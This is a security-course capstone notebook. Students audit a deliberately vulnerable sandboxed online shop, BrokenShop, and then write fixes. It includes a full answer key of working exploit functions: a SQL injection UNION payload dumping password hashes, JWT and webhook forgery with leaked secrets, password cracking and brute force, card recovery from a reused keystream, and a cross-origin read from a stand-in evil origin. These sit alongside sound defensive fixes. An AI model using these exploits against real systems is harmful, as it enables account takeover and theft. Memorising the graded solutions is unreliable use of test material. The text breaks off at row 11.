# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
# ---

# %% [markdown]
# # 13 · Capstone — audit BrokenShop
#
# *Workflow steps 1–8 at once, on one codebase.* The catalogue ends with a table, the
# **Common Anti-Patterns Summary**: twelve things to avoid and what to do instead. BrokenShop
# is an online shop that does every one of them. It is written the way real shops are: each
# shortcut was somebody's reasonable deadline decision, and each one alone "works".
#
# Your job is the one a security reviewer gets on a new codebase:
#
# 1. **Audit** — find the flaws and *show* each one: a finding is the route, the weakness and
#    your exploit; the check replays the exploit on a fresh shop and judges what it got.
# 2. **Fix** — write the fix for each row. Every slot has the same signature as in the lab that
#    taught it, so you can bring the functions you wrote there.
# 3. **Verify** — all your fixes in one shop, and the batteries of labs 01–12 replayed against it.
#
# Standards for each row are cited where the row is fixed; the overview is OWASP ASVS 5.0 and
# the [OWASP Cheat Sheet Series](https://cheatsheetseries.owasp.org/).

# %%
import base64
import hashlib
import hmac
import json
import secrets

import httpx

import labkit
from labkit.attacks import jwt as jwt_attacks
from labkit.attacks.cracking import crack_unsalted
from labkit.attacks.crypto import recover_with_known_plaintext
from labkit.attacks.secret_scan import scan_text
from labkit.sandbox.apps.shop.runner import ShopClient
from labkit.wordlists import common_passwords

lab = labkit.open_lab("13-capstone")


def shop_client():
    """A client for the live shop, as the check hands one to your exploits (.urls included)."""
    return ShopClient(lab.urls, getattr(lab.sandbox, "ca_pem", None), None)


lab

# %% [markdown]
# BrokenShop is served over HTTPS (`lab.url`, with a lab certificate authority `lab.client`
# trusts) and, like many shops, on plain HTTP too. An internal **shipping** service reads the
# shop's tokens. Customers `amara`, `bruno`, `chen`, `dana`… `@shop.example` shop there;
# alice, bob and carol run it.

# %%
lab.urls

# %% [markdown]
# ## The twelve rows
#
# | # | avoid | do instead | taught in | weakness id |
# | --- | --- | --- | --- | --- |
# | 1 | JWT in localStorage | httpOnly secure cookie (refresh), memory (access) | 02-jwt | `jwt-in-localstorage` |
# | 2 | MD5/SHA for passwords | bcrypt or argon2 with proper cost factor | 01-passwords | `fast-password-hash` |
# | 3 | Hardcoded secrets in code | Environment variables + secrets manager | 08-secrets | `hardcoded-secret` |
# | 4 | `cors({ origin: '*' })` | Explicit allowed origins list | 10-cors | `cors-wildcard` |
# | 5 | "Invalid password" message | "Invalid email or password" (no enumeration) | 01-passwords | `login-enumeration` |
# | 6 | No rate limiting on auth | Strict rate limits on login/register | 11-rate-limiting | `no-auth-rate-limit` |
# | 7 | Rolling your own crypto | Use established libraries (jose, bcrypt) | 09-encryption | `homemade-crypto` |
# | 8 | Trusting user input | Validate with zod/joi, parameterized queries | 07-injection | `trusting-input` |
# | 9 | Same API key forever | Rotate keys regularly, support multiple active | 05-api-keys | `eternal-api-key` |
# | 10 | No HTTPS redirect | Force HTTPS + HSTS header | 09-encryption | `no-https-redirect` |
# | 11 | Symmetric JWT for multi-service | Use RS256/ES256 (asymmetric) for distributed | 02-jwt | `symmetric-jwt` |
# | 12 | No input length limits | Max length on all string inputs | 07-injection | `no-length-limits` |


# %% [markdown]
# ## Part 1 — Audit
#
# Nobody hands a reviewer a list of where the flaws are. You get the running shop, its API
# document and — because the repository went public by mistake — part of its source. A finding
# is what you write down when you can **show** a flaw, not when you suspect one:
#
# ```python
# {"routes": ["METHOD /path"],           # where the flaw lives (the route your exploit uses)
#  "weakness": "fast-password-hash",     # a row id of the table above — or "other" ...
#  "cwe": "CWE-639",                     # ... with the closest CWE id (cwe.mitre.org)
#  "exploit": my_exploit}                # my_exploit(client) -> evidence
# ```
#
# `exploit(client)` is your attack as a function: `client` is an `httpx.Client` aimed at a shop
# (`client.urls` names its other listeners), and it returns the **evidence** — what the attack
# got you: a token, a secret, `{email: password}`, a card number, a list of customers, or the
# response itself. The check runs each exploit against a **fresh** BrokenShop (new passwords,
# secrets, keys and cards: a pasted value proves nothing) and judges the evidence against what
# that shop holds; then against the secure shop, where it must show nothing. A finding counts
# once its exploit shows its weakness, at a route it really used. Beyond the twelve rows the
# shop has more to find: each other flaw you show (as `"other"` with its CWE) is a bonus.
#
# ### How to audit
#
# 1. **Map the surface.** The API document lists the routes; the traffic inspector shows what
#    the shop's own front end sends; `lab.urls` shows every listener (plain HTTP, a second
#    service). An attacker also holds a few things the lab serves under `/api/_lab/`: the stolen
#    database (`breach`), the public repository (`source`), a partner's old log
#    (`old-config`), a bought mailing list (`mailing-list`).
# 2. **Read the source** you have: what does each function trust, compute, store, answer?
# 3. **Go route by route** with a reviewer's five questions: *authentication* (who may call it,
#    and may they touch *this* object?), *input* (what type, how long, where does it end up?),
#    *secrets* (what signs or checks it, where does that key live, does it expire?),
#    *transport* (plain HTTP? who may read the answer from another origin?), *crypto* (which
#    hash, which cipher, whose library?) — and what it says when it **fails**.
# 4. **Prove it** with the labs' tools: every exploit of labs 01–12 works against a route here.

# %%
routes = lab.routes()  # from the shop's OpenAPI document
print(f"{len(routes)} routes:", *routes, sep="\n  ")

# %%
files = lab.client.get("/api/_lab/source").json()["files"]  # the leaked repository
{path: f"{text.count(chr(10))} lines" for path, text in files.items()}  # read them: print(files[path])

# %%
breach = lab.client.get("/api/_lab/breach").json()  # the stolen database file
{table: len(rows) for table, rows in breach.items()}

# %% [markdown]
# A worked example opens the cell below: the shop's plain-HTTP listener. Its exploit asks for a
# page over `http://` and returns the answer; the check looks at where it came from and what
# the shop said. Being given, it earns no point: the audit counts the other eleven rows and
# the bonus flaws (its row's fix, in Part 2, is still yours).
#
# Then yours: write one exploit per flaw and add its finding to `FINDINGS`. Stuck? Run
# `lab.hints("audit")`: the hints go from method to route, one at a time (each one you reveal
# is recorded in your progress).

# %% labkit={"answer": "audit"}
def customer(client):
    """Sign up a fresh customer on the shop `client` points at; its Authorization header."""
    email, password = f"me-{secrets.token_hex(4)}@shop.example", secrets.token_urlsafe(12)
    client.post("/api/auth/register", json={"email": email, "password": password})
    token = client.post("/api/auth/login", json={"email": email, "password": password}).json()
    return {"Authorization": f"Bearer {token['accessToken']}"}


def plain_http(client):
    """No HTTPS redirect: the shop answers over http:// (evidence: that answer)."""
    return httpx.get(client.urls["http"] + "/api/status", follow_redirects=False, trust_env=False)


example = {"routes": ["GET /api/status"], "weakness": "no-https-redirect", "exploit": plain_http}


### BEGIN SOLUTION
def sign_in(client, email, password):
    return client.post("/api/auth/login", json={"email": email, "password": password})


def steal_refresh_token(client):
    """The login's JSON carries a refresh token (the page keeps it in localStorage)."""
    email, password = f"me-{secrets.token_hex(4)}@shop.example", secrets.token_urlsafe(12)
    client.post("/api/auth/register", json={"email": email, "password": password})
    return sign_in(client, email, password).json().get("refreshToken")


def crack_breach(client):
    """Unsalted MD5/SHA-256 in the stolen table: one wordlist pass cracks them all."""
    users = client.get("/api/_lab/breach").json()["users"]
    cracked = crack_unsalted({u["email"]: u["password_hash"] for u in users},
                             common_passwords(2000))  # fmt: skip
    return {e: p for e, p in cracked.items() if sign_in(client, e, p).status_code == 200}


def forge_payment(client):
    """The webhook secret is in the public source: sign a 'paid' event myself."""
    files = client.get("/api/_lab/source").json()["files"]
    leaked = [f.secret for path, text in files.items() for f in scan_text(text, path)]
    headers = customer(client)
    order = client.post("/api/orders", json={"item": "espresso machine"}, headers=headers).json()
    event = json.dumps({"type": "payment.succeeded", "orderId": order["id"]}).encode()
    for secret in leaked:
        signature = "sha256=" + hmac.new(secret.encode(), event, hashlib.sha256).hexdigest()
        client.post("/api/webhooks/payment", content=event, headers={"X-Signature": signature})
        if client.get(f"/api/orders/{order['id']}", headers=headers).json()["status"] == "paid":
            return secret
    return None


def read_from_evil_origin(client):
    """Any Origin may read a logged-in customer's account with credentials."""
    return client.get("/api/account",
                      headers={**customer(client), "Origin": "https://evil.example.net"})  # fmt: skip


def who_shops_here(client):
    """An unknown email and a wrong password get different answers."""
    emails = client.get("/api/_lab/mailing-list").json()["emails"]
    nobody = sign_in(client, f"nobody-{secrets.token_hex(4)}@mail.example", "x").json()
    return [e for e in emails if sign_in(client, e, "x").json() != nobody]


def guess_online(client):
    """Nothing counts failed logins: the 100 most common passwords, one after the other."""
    for password in common_passwords(100):
        answer = sign_in(client, "dana@shop.example", password)
        if answer.status_code == 200:
            return {"dana@shop.example": password}
        if answer.status_code == 429:
            return None
    return None


def recover_cards(client):
    """One keystream for every card: my known card XOR the others' ciphertexts."""
    known = "4242424242424242"
    mine = client.post("/api/cards", json={"number": known, "holder": "Me"},
                       headers=customer(client)).json()  # fmt: skip
    cards = {c["id"]: json.loads(c["stored"]) for c in client.get("/api/_lab/breach").json()["cards"]}
    mine_ct = base64.b64decode(cards.pop(mine["id"])["ciphertext"])
    return [recover_with_known_plaintext(base64.b64decode(c["ciphertext"]), mine_ct,
                                         known.encode(), tag=0).decode("latin-1")
            for c in cards.values()]  # fmt: skip


def union_hashes(client):
    """The friend lookup pastes the email into SQL: UNION in the password hashes."""
    payload = ("' UNION SELECT id, email, role, password_hash, token_version, password_hash, "
               "age FROM users --")  # fmt: skip
    return client.get("/api/users", params={"email": payload}, headers=customer(client)).json()


def old_partner_key(client):
    """Last year's key from a partner's log still reads the reports."""
    log = client.get("/api/_lab/old-config").json()["content"]
    key = log.split("REPORTS_API_KEY=")[1].split()[0]
    reports = client.get("/api/v1/reports", headers={"X-API-Key": key})
    return key if reports.status_code == 200 else None


def forge_admin(client):
    """Shipping prints the shared HS256 secret: sign myself an admin token."""
    config = httpx.get(client.urls["shipping"] + "/debug/config", trust_env=False).json()
    secret = config["env"].get("SHOP_JWT_SECRET")
    if secret is None:
        return None
    header, claims = jwt_attacks.decode_unverified(customer(client)["Authorization"][7:])
    token = jwt_attacks.forge(header, {**claims, "role": "admin"}, secret.encode())
    admin = client.get("/api/admin/orders", headers={"Authorization": f"Bearer {token}"})
    return token if admin.status_code == 200 else None


def huge_review(client):
    """A review of 100,000 characters is stored (and shipped with the product page)."""
    return client.post("/api/reviews", json={"productId": 1, "rating": 5, "text": "A" * 100_000},
                       headers=customer(client))  # fmt: skip


def huge_email(client):
    """Sign-up stores a 5,000-character email."""
    return client.post("/api/auth/register",
                       json={"email": "a" * 5000 + "@shop.example", "password": "x"})  # fmt: skip


def other_orders(client):
    """Order ids count up, and any customer may read any of them."""
    headers = customer(client)
    mine = client.post("/api/orders", json={"item": "kite"}, headers=headers).json()["id"]
    found = [client.get(f"/api/orders/{n}", headers=headers) for n in range(1, mine)]
    return [r.json() for r in found if r.status_code == 200]


def staff_ages(client):
    """The friend lookup shows age and role to any customer."""
    headers = customer(client)
    return [client.get("/api/users", params={"email": e}, headers=headers).json()
            for e in ("alice@example.com", "bob@example.com", "carol@example.com")]  # fmt: skip


def sql_error_text(client):
    """A quote in the lookup: the 500 prints SQLite's message."""
    return client.get("/api/users", params={"email": "'"}, headers=customer(client)).json()


def echoed_password(client):
    """A malformed login: the 422 repeats the password it was sent."""
    return client.post("/api/auth/login",
                       json={"email": "alice@example.com", "password": ["hunter2"]})  # fmt: skip


FINDINGS = [
    example,
    {"routes": ["POST /api/auth/login"], "weakness": "jwt-in-localstorage",
     "exploit": steal_refresh_token},
    {"routes": ["POST /api/auth/login"], "weakness": "fast-password-hash", "exploit": crack_breach},
    {"routes": ["POST /api/webhooks/payment"], "weakness": "hardcoded-secret",
     "exploit": forge_payment},
    {"routes": ["GET /api/account"], "weakness": "cors-wildcard", "exploit": read_from_evil_origin},
    {"routes": ["POST /api/auth/login"], "weakness": "login-enumeration",
     "exploit": who_shops_here},
    {"routes": ["POST /api/auth/login"], "weakness": "no-auth-rate-limit", "exploit": guess_online},
    {"routes": ["POST /api/cards"], "weakness": "homemade-crypto", "exploit": recover_cards},
    {"routes": ["GET /api/users"], "weakness": "trusting-input", "exploit": union_hashes},
    {"routes": ["GET /api/v1/reports"], "weakness": "eternal-api-key", "exploit": old_partner_key},
    {"routes": ["GET /api/admin/orders"], "weakness": "symmetric-jwt", "exploit": forge_admin},
    {"routes": ["POST /api/reviews"], "weakness": "no-length-limits", "exploit": huge_review},
    {"routes": ["POST /api/auth/register"], "weakness": "other", "cwe": "CWE-770",
     "exploit": huge_email},
    {"routes": ["GET /api/orders/{order_id}"], "weakness": "other", "cwe": "CWE-639",
     "exploit": other_orders},
    {"routes": ["GET /api/users"], "weakness": "other", "cwe": "CWE-213", "exploit": staff_ages},
    {"routes": ["GET /api/users"], "weakness": "other", "cwe": "CWE-209",
     "exploit": sql_error_text},
    {"routes": ["POST /api/auth/login"], "weakness": "other", "cwe": "CWE-209",
     "exploit": echoed_password},
]  # fmt: skip
### STUB
# TODO: one exploit(client) -> evidence per flaw you can show, and its finding:
# {"routes": ["METHOD /path"], "weakness": "<row id>" or "other", "cwe": ..., "exploit": ...}
FINDINGS = [
    example,
]
### END SOLUTION

# %%
with shop_client() as client:  # the worked example, against the live shop
    print(plain_http(client))
lab.hints("audit")

# %% [markdown]
# Your findings as a table; its button replays them all (the same as the check below).

# %%
labkit.audit_checklist(lab, FINDINGS)

# %% labkit={"check": "audit"}
lab.check("audit", findings=FINDINGS)

# %% [markdown]
# ## Part 2 — Fix, row by row
#
# Each row below replays **your** finding against the live shop (`replay(row)`), then asks for
# the fix. A fix check starts a fresh BrokenShop with your functions plugged in and replays the
# battery of the lab that taught the row. Only that row's functions are needed; the others stay
# broken.

# %%
def replay(weakness):
    """Run your finding for `weakness` (a row id or a CWE) against the live shop."""
    finding = next((f for f in FINDINGS if weakness in (f.get("weakness"), f.get("cwe"))), None)
    if finding is None:
        return f"(no finding for {weakness} yet: add one to FINDINGS in Part 1)"
    with shop_client() as client:
        try:
            evidence = finding["exploit"](client)
        except Exception as exc:  # your exploit, not the lab
            return f"your exploit raised {type(exc).__name__}: {exc}"
    if isinstance(evidence, httpx.Response):
        return f"{evidence.request.method} {evidence.url} -> {evidence.status_code} {evidence.text[:300]}"
    return str(evidence)[:400]

# %% [markdown]
# ### 1 · JWT in localStorage → httpOnly secure cookie (refresh), memory (access)
#
# Anything a page's JavaScript can read, an XSS payload or a compromised third-party script can
# read too. The OWASP HTML5 Security Cheat Sheet (*Local Storage*) says not to keep session
# identifiers in `localStorage`; the OWASP JWT Cheat Sheet (*Token Storage on Client Side*)
# keeps the access token in memory. The long-lived refresh token goes in a cookie scripts
# cannot touch: `HttpOnly` and `Secure` (RFC 6265 §4.1.2.5–6), `SameSite=Strict` (RFC 6265bis
# §4.1.2.7), `Path` limited to the one route that needs it; and each refresh token works once
# (RFC 9700 §4.14.2). BrokenShop's login answers both tokens in JSON and its front end stores
# them:

# %%
print(lab.client.get("/static/app.js").text.strip()[:400])  # the front end
replay("jwt-in-localstorage")

# %% [markdown]
# Write lab 02's `refresh_cookie`. With it, the shop answers only `{"accessToken"}`, sends the
# refresh token in your `Set-Cookie` value, and its refresh route reads only that cookie —
# under whatever name you give it (`refreshToken`, `__Secure-refresh`, ...).
#
# <!-- labkit:rules fix-jwt-in-localstorage -->

# %% labkit={"answer": "fix-jwt-in-localstorage"}
def refresh_cookie(token: str) -> str:
    """The Set-Cookie value carrying the refresh token: out of reach of scripts, HTTPS only,
    never sent cross-site, only to /api/auth/refresh, for seven days."""
    ### BEGIN SOLUTION
    return (
        f"refreshToken={token}; HttpOnly; Secure; SameSite=Strict; "
        "Path=/api/auth/refresh; Max-Age=604800"
    )
    ### END SOLUTION


# %% labkit={"check": "fix-jwt-in-localstorage"}
lab.check("fix-jwt-in-localstorage", refresh_cookie=refresh_cookie)

# %% [markdown]
# ### 2 · MD5/SHA for passwords → bcrypt or argon2 with proper cost factor
#
# MD5 and SHA-256 are built to be fast, and without a salt equal passwords give equal hashes:
# one pass over a wordlist cracks every account at once. The OWASP Password Storage Cheat
# Sheet asks for Argon2id (m=19 MiB, t=2, p=1 at least) or bcrypt (cost ≥ 10), each with its
# own random salt; NIST SP 800-63B §5.1.1.2 asks for a salted, costly one-way function. Old
# rows cannot be rehashed without the password, so the Cheat Sheet's *Upgrading Legacy Hashes*
# keeps verifying them and replaces each at the user's next login.

# %%
replay("fast-password-hash")

# %% [markdown]
# Bring lab 01's trio. `verify_password` must still accept the shop's old unsalted MD5 and
# SHA-256 rows (32 and 64 hex digits), and `needs_rehash` says which to replace at login.
#
# <!-- labkit:rules fix-fast-password-hash -->

# %% labkit={"answer": "fix-fast-password-hash"}
import re

from argon2 import PasswordHasher, Type
from argon2.exceptions import InvalidHashError, VerificationError

### BEGIN SOLUTION
HASHER = PasswordHasher(time_cost=2, memory_cost=19456, parallelism=1, type=Type.ID)
LEGACY = {32: hashlib.md5, 64: hashlib.sha256}  # old rows only: never hash new passwords so
### STUB
# TODO: module-level setup your functions share (a PasswordHasher, ...)
### END SOLUTION


def hash_password(password: str) -> str:
    """A salted, slow hash of password (argon2id with OWASP's parameters)."""
    ### BEGIN SOLUTION
    return HASHER.hash(password)
    ### END SOLUTION


def verify_password(password: str, stored: str) -> bool:
    """True if password matches stored: an argon2id hash, or a legacy unsalted MD5 / SHA-256
    hex digest (compared in constant time). False — never an exception — otherwise."""
    ### BEGIN SOLUTION
    if re.fullmatch(r"[0-9a-fA-F]{32}|[0-9a-fA-F]{64}", stored):
        digest = LEGACY[len(stored)](password.encode()).hexdigest()
        return hmac.compare_digest(digest, stored.lower())
    try:
        return HASHER.verify(stored, password)
    except (VerificationError, InvalidHashError):
        return False
    ### END SOLUTION


def needs_rehash(stored: str) -> bool:
    """True if stored should be replaced by hash_password(...) at the next successful login."""
    ### BEGIN SOLUTION
    if not stored.startswith("$argon2id$"):
        return True
    try:
        return HASHER.check_needs_rehash(stored)
    except InvalidHashError:
        return True
    ### END SOLUTION


# %% labkit={"check": "fix-fast-password-hash"}
lab.check("fix-fast-password-hash", hash_password=hash_password,
          verify_password=verify_password, needs_rehash=needs_rehash)  # fmt: skip

# %% [markdown]
# ### 3 · Hardcoded secrets in code → Environment variables + secrets manager
#
# A secret in the source is in every clone, CI log and fork, and git history keeps it after
# the line is deleted (CWE-798). The OWASP Secrets Management Cheat Sheet: inject secrets at
# run time from a secrets manager, detect leaked ones, and **rotate** a leaked one — deleting
# the literal is not enough. ASVS 5.0 V13.3: refuse to start with a missing or weak secret, and
# never print it. BrokenShop's payment provider signs each webhook with an HMAC (RFC 2104) of
# the body; the shop's repository went public.

# %%
replay("hardcoded-secret")

# %% [markdown]
# Write `webhook_secret(env)`. With it, the deployment puts a fresh (rotated) secret in the
# environment; the shop calls your function at start-up and for each webhook.
#
# <!-- labkit:rules fix-hardcoded-secret -->

# %% labkit={"answer": "fix-hardcoded-secret"}
import math
from collections import Counter
from collections.abc import Mapping


def webhook_secret(env: Mapping[str, str]) -> str:
    """PAYMENT_WEBHOOK_SECRET from env. Fail fast: raise (without repeating the value) when it
    is missing, shorter than 32 characters, a placeholder or not random."""
    ### BEGIN SOLUTION
    value = env.get("PAYMENT_WEBHOOK_SECRET", "")
    if len(value) < 32:
        raise ValueError("PAYMENT_WEBHOOK_SECRET is missing or shorter than 32 characters")
    if any(word in value.lower() for word in ("changeme", "secret", "password", "example")):
        raise ValueError("PAYMENT_WEBHOOK_SECRET is a placeholder")
    counts = Counter(value)
    bits = -sum(n / len(value) * math.log2(n / len(value)) for n in counts.values())
    if bits < 3.0:
        raise ValueError("PAYMENT_WEBHOOK_SECRET is not random (a repetition)")
    return value
    ### END SOLUTION


# %% labkit={"check": "fix-hardcoded-secret"}
lab.check("fix-hardcoded-secret", webhook_secret=webhook_secret)

# %% [markdown]
# ### 4 · `cors({ origin: '*' })` → Explicit allowed origins list
#
# A literal `*` is refused by browsers on credentialed requests (Fetch standard, *CORS
# check*), so Starlette "helps" by reflecting whatever `Origin` arrives: every page on the web
# can read a logged-in customer's account. Compare the `Origin` exactly against a fixed list
# (RFC 6454 §6.2; OWASP HTML5 Security Cheat Sheet, *Cross Origin Resource Sharing*; ASVS 5.0
# V3.4.2). The shop's one front end is `https://app.example.com`.

# %%
replay("cors-wildcard")

# %% [markdown]
# <!-- labkit:rules fix-cors-wildcard -->

# %% labkit={"answer": "fix-cors-wildcard"}
def cors_settings(trusted_origins: list[str]) -> dict:
    """Keyword arguments for Starlette's CORSMiddleware that let exactly trusted_origins read
    the API with credentials. The front end reads (GET) and saves the address (PUT, JSON)."""
    ### BEGIN SOLUTION
    return {
        "allow_origins": list(trusted_origins),
        "allow_credentials": True,
        "allow_methods": ["GET", "PUT"],
        "allow_headers": ["Content-Type", "Authorization"],
        "max_age": 600,
    }
    ### END SOLUTION


# %% labkit={"check": "fix-cors-wildcard"}
lab.check("fix-cors-wildcard", cors_settings=cors_settings)

# %% [markdown]
# ### 5 · "Invalid password" message → "Invalid email or password" (no enumeration)
#
# Different answers for an unknown email and a wrong password let anyone test a mailing list
# for customers — step one of credential stuffing and phishing. The OWASP Authentication Cheat
# Sheet (*Authentication and Error Messages*): one generic message, and the same status and
# the same *time* (OWASP WSTG-IDNT-04), so an unknown user costs one hash verification too.
# Sign-up's "Email already registered" is a known, accepted leak; rate limiting (row 6) covers it.

# %%
replay("login-enumeration")

# %% [markdown]
# Bring lab 01's `login`. It uses row 2's functions (run that cell first): its dummy hash is
# made once with row 2's `hash_password`, so an unknown email costs what a real row costs.
#
# <!-- labkit:rules fix-login-enumeration -->

# %% labkit={"answer": "fix-login-enumeration"}
### BEGIN SOLUTION
DUMMY_HASH = hash_password(secrets.token_urlsafe(32))  # computed once
### STUB
DUMMY_HASH = None  # TODO: a hash to verify against when the user does not exist
### END SOLUTION


def login(email: str, password: str, find_user) -> tuple[int, dict]:
    """(200, {"email", "role"}) for the right password; the same 401 {"error": ...} for an
    unknown email and a wrong password — and the same work (verify DUMMY_HASH for unknown
    users). find_user(email) returns the user (.password_hash, .email, .role) or None."""
    ### BEGIN SOLUTION
    user = find_user(email)
    stored = user.password_hash if user is not None else DUMMY_HASH
    verified = verify_password(password, stored)
    if user is None or not verified:
        return 401, {"error": "Invalid email or password"}
    return 200, {"email": user.email, "role": user.role}
    ### END SOLUTION


# %% labkit={"check": "fix-login-enumeration"}
lab.check("fix-login-enumeration", login=login)

# %% [markdown]
# ### 6 · No rate limiting on auth → Strict rate limits on login/register
#
# Nothing counts failed logins, so a script tries the 100 most common passwords against a
# customer in under a second. The OWASP Authentication Cheat Sheet (*Protect Against Automated
# Attacks*) throttles per account *and* per source; NIST SP 800-63B §5.2.2 limits failed attempts
# on an account; refusals are 429 (RFC 6585 §4) with `Retry-After`. The keys matter more than the
# numbers: per IP alone lets a botnet guess one account, per account alone lets one address try
# every account once, and `Dana@Shop.Example` must not buy a fresh quota. The shop's limiter (a
# `limits` moving window, 5 failures per 15 minutes per key) counts what your `login_keys` returns.

# %%
replay("no-auth-rate-limit")

# %% [markdown]
# <!-- labkit:rules fix-no-auth-rate-limit -->

# %% labkit={"answer": "fix-no-auth-rate-limit"}
def login_keys(ip: str, email: str) -> list[str]:
    """The keys one login attempt (or sign-up) is counted against: one per client IP and one
    per account, the account as the login resolves it (emails are case-insensitive)."""
    ### BEGIN SOLUTION
    return [f"ip:{ip}", f"account:{email.strip().casefold()}"]
    ### END SOLUTION


# %% labkit={"check": "fix-no-auth-rate-limit"}
lab.check("fix-no-auth-rate-limit", login_keys=login_keys)

# %% [markdown]
# ### 7 · Rolling your own crypto → Use established libraries (jose, bcrypt)
#
# BrokenShop "encrypts" saved cards with a cipher its developers wrote: SHA-256(key ‖ counter)
# XOR-ed onto the number — no nonce, no tag. A strong hash does not make a cipher: every card is
# XOR-ed with the same bytes, so one card you know reveals all the others (a two-time pad), and a
# changed byte silently decrypts to a changed digit. The OWASP Cryptographic Storage Cheat Sheet
# (*Custom Algorithms*): don't; use a vetted library and an authenticated mode. Lab 09's recipe:
# AES-256-GCM (NIST SP 800-38D) with a fresh 96-bit nonce per encryption (§8.2), the record id as
# associated data (RFC 5116 §2.1), a key id for rotation. PCI DSS v4.0 3.5.1 wants the card number
# unreadable at rest; 3.4.1 masked when shown.

# %%
replay("homemade-crypto")

# %% [markdown]
# Bring lab 09's pair. The shop passes `record_id="card:<id>"`, the key id and the 32-byte key.
#
# <!-- labkit:rules fix-homemade-crypto -->

# %% labkit={"answer": "fix-homemade-crypto"}
import os

from cryptography.exceptions import InvalidTag
from cryptography.hazmat.primitives.ciphers.aead import AESGCM


def encrypt_record(plaintext: bytes, record_id: str, key_id: str, key: bytes) -> dict:
    """Encrypt one card number for record record_id under key (32 bytes, id key_id). Return
    what the shop stores: {"keyId": ..., "nonce": base64, "ciphertext": base64}."""
    ### BEGIN SOLUTION
    nonce = os.urandom(12)
    aad = json.dumps([record_id, key_id]).encode()
    sealed = AESGCM(key).encrypt(nonce, plaintext, aad)
    return {
        "keyId": key_id,
        "nonce": base64.b64encode(nonce).decode(),
        "ciphertext": base64.b64encode(sealed).decode(),
    }
    ### END SOLUTION


def decrypt_record(stored: dict, record_id: str, keyring: dict[str, bytes]) -> bytes | None:
    """The plaintext of stored for record record_id, or None when it is not authentic
    (tampered, moved from another record, unknown key)."""
    ### BEGIN SOLUTION
    key_id = stored.get("keyId")
    if not isinstance(key_id, str) or key_id not in keyring:
        return None
    try:
        nonce = base64.b64decode(stored["nonce"], validate=True)
        sealed = base64.b64decode(stored["ciphertext"], validate=True)
        aad = json.dumps([record_id, key_id]).encode()
        return AESGCM(keyring[key_id]).decrypt(nonce, sealed, aad)
    except (KeyError, TypeError, ValueError, InvalidTag):
        return None
    ### END SOLUTION


# %% labkit={"check": "fix-homemade-crypto"}
lab.check("fix-homemade-crypto", encrypt_record=encrypt_record, decrypt_record=decrypt_record)

# %% [markdown]
# ### 8 · Trusting user input → Validate with zod/joi, parameterized queries
#
# "Send a gift card to a friend" looks the friend up by email — pasted into the SQL. A quote
# ends the string and the rest is SQL: `ORDER BY n` counts the columns, `UNION SELECT` appends
# every password hash. The OWASP SQL Injection Prevention Cheat Sheet's first defence is a
# prepared statement with parameters: the SQL text is constant and the value travels apart.
# Escaping by hand is discouraged, blocklists are not on the list, and `=` is not `LIKE` (`%`
# and `_` are wildcards there). ASVS 5.0 V1.2.4.

# %%
replay("trusting-input")

# %% [markdown]
# <!-- labkit:rules fix-trusting-input -->

# %% labkit={"answer": "fix-trusting-input"}
import sqlite3


def find_users(db: sqlite3.Connection, email: str) -> list[sqlite3.Row]:
    """The users whose email is exactly email (columns id, email, name, age, role);
    db is an open sqlite3 connection: return db.execute(...).fetchall()."""
    ### BEGIN SOLUTION
    return db.execute(
        "SELECT id, email, name, age, role FROM users WHERE email = ?", (email,)
    ).fetchall()
    ### END SOLUTION


# %% labkit={"check": "fix-trusting-input"}
lab.check("fix-trusting-input", find_users=find_users)

# %% [markdown]
# ### 9 · Same API key forever → Rotate keys regularly, support multiple active
#
# Partners pull sales reports with an `X-API-Key`. Keys have an expiry, scopes and a revoked
# flag — and the shop checks none of them. Keys must be short-lived and revocable, and a client
# must hold two active keys during a rotation (OWASP Secrets Management Cheat Sheet, *Rotation*;
# a key's lifetime is its cryptoperiod, NIST SP 800-57 Part 1 §5.3). Every dead key gets the
# same 401 (RFC 9110 §15.5.2), a live key without the scope 403 (§15.5.4).

# %%
replay("eternal-api-key")

# %% [markdown]
# <!-- labkit:rules fix-eternal-api-key -->

# %% labkit={"answer": "fix-eternal-api-key"}
def authenticate(api_key, scope, find_key, now) -> tuple[int, dict]:
    """(status, body) for a request carrying api_key that needs scope. find_key(api_key)
    returns the key's row or None: .id, .name, .scopes, .created_at, .expires_at (None =
    never), .revoked_at (None = active); times are POSIX seconds, like now.
    200 {"client": row.name, "keyId": row.id}; 401 {"error": "API key required"} without a
    key; 401 {"error": "Invalid API key"} for any unusable key; 403 {"error": "Insufficient
    permissions"} without the scope."""
    ### BEGIN SOLUTION
    if not api_key:
        return 401, {"error": "API key required"}
    record = find_key(api_key)
    if (
        record is None
        or record.revoked_at is not None
        or record.expires_at is None
        or now >= record.expires_at
    ):
        return 401, {"error": "Invalid API key"}
    if scope not in record.scopes:
        return 403, {"error": "Insufficient permissions"}
    return 200, {"client": record.name, "keyId": record.id}
    ### END SOLUTION


# %% labkit={"check": "fix-eternal-api-key"}
lab.check("fix-eternal-api-key", authenticate=authenticate)

# %% [markdown]
# ### 10 · No HTTPS redirect → Force HTTPS + HSTS header
#
# The shop answers `http://` exactly like `https://` ("the load balancer does TLS"): every login
# sent to the plain URL crosses the network in clear, and sslstrip keeps a visitor on `http://`.
# Lab 09's fix: redirect plain requests to the HTTPS origin (308 keeps the method, RFC 9110
# §15.4.9), believe `X-Forwarded-Proto` only from the configured proxy (127.0.0.2), and send
# `Strict-Transport-Security` over HTTPS only (RFC 6797 §7.2). OWASP HTTP Strict Transport
# Security Cheat Sheet.

# %%
replay("no-https-redirect")

# %% [markdown]
# <!-- labkit:rules fix-no-https-redirect -->

# %% labkit={"answer": "fix-no-https-redirect"}
def effective_scheme(scheme: str, peer: str, forwarded_proto: str | None,
                     trusted_proxies: frozenset[str]) -> str:  # fmt: skip
    """The scheme the client used: scheme (the connection's), or the last value of
    X-Forwarded-Proto when — and only when — peer is one of trusted_proxies. The shop
    redirects (308) every request whose effective scheme is not https."""
    ### BEGIN SOLUTION
    if forwarded_proto and peer in trusted_proxies:
        claimed = forwarded_proto.split(",")[-1].strip().lower()
        if claimed in ("http", "https"):
            return claimed
    return scheme
    ### END SOLUTION


def security_headers(scheme: str) -> dict[str, str]:
    """Headers for a response whose client used scheme: HSTS over https only."""
    ### BEGIN SOLUTION
    if scheme == "https":
        return {"Strict-Transport-Security": "max-age=31536000; includeSubDomains"}
    return {}
    ### END SOLUTION


# %% labkit={"check": "fix-no-https-redirect"}
lab.check("fix-no-https-redirect", effective_scheme=effective_scheme,
          security_headers=security_headers)  # fmt: skip

# %% [markdown]
# ### 11 · Symmetric JWT for multi-service → Use RS256/ES256 (asymmetric) for distributed
#
